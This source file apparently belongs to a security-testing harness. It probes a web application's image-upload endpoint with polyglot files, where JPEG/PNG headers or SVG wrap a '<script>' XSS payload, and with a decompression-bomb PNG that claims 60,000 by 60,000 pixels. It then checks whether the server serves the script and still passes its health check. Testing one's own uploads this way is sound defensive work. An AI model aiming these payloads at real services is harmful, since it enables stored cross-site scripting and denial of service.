import { randomUUID } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';

/**
 * Files that are a picture to one program and something else to another, or decompress to far too
 * much.
 */
export const attack = {
  name: 'pictures that are none, and bombs',
  async *tries(target) {
    const { path } = await target.newLink();
    const script = '<script>alert(1)</script>';
    const files = [
      [
        'image/jpeg',
        Buffer.from(`\xff\xd8\xff\xe0${script}`, 'latin1'),
        'script after a JPEG’s mark',
      ],
      ['image/png', Buffer.from(`<html>${script}</html>`), 'HTML'],
      ['image/jpeg', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`), 'SVG'],
      ['image/png', png(60_000, 60_000), 'a PNG of 60,000 by 60,000'],
      [
        'image/png',
        Buffer.concat([png(64, 64), Buffer.from(script)]),
        'a PNG with a script behind',
      ],
      ['image/webp', Buffer.from('RIFF\xff\xff\xff\xffWEBPVP8 ', 'latin1'), 'a broken WebP'],
      ['image/svg+xml', Buffer.from('<svg/>'), 'SVG by name'],
      ['text/html', Buffer.from(script), 'HTML by name'],
    ];
    for (const [type, body, what] of files) {
      const id = randomUUID();
      await target.call('POST', `${path}/uploads`, {
        json: { id, section: 'exterior_images', filetype: 'image' },
      });
      const headers = { 'content-type': type };
      const sent = await target.call('PUT', `${path}/uploads/${id}/content`, { body, headers });
      yield { what: `${what} answered ${sent.status}`, succeeded: sent.status >= 500 };
      const { json } = await target.call('GET', path);
      const upload = json?.capture?.uploads?.find((one) => one.id === id);
      const url = upload?.url && new URL(upload.url, target.origin);
      const served = url && (await target.call('GET', url.pathname + url.search));
      yield {
        what: `${what} is served with what it hid`,
        succeeded:
          served !== undefined &&
          served !== null &&
          served.status === 200 &&
          (served.text.includes(script) ||
            !/^image\/(jpeg|png|webp|avif)/.test(served.headers.get('content-type') ?? '')),
      };
      const { status } = await target.call('GET', '/health');
      yield { what: `${what}: the server answers ${status} afterwards`, succeeded: status !== 200 };
    }
  },
};

/** A PNG of one color that claims this size but contains little data. */
function png(width, height) {
  const chunk = (name, data) => {
    const head = Buffer.alloc(4);
    head.writeUInt32BE(data.length);
    const named = Buffer.concat([Buffer.from(name), data]);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc32(named));
    return Buffer.concat([head, named, sum]);
  };
  const size = Buffer.alloc(13);
  size.writeUInt32BE(width, 0);
  size.writeUInt32BE(height, 4);
  size.set([1, 0, 0, 0, 0], 8);
  const rows = Buffer.alloc(Math.min(height, 2000) * (1 + Math.ceil(width / 8)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', size),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
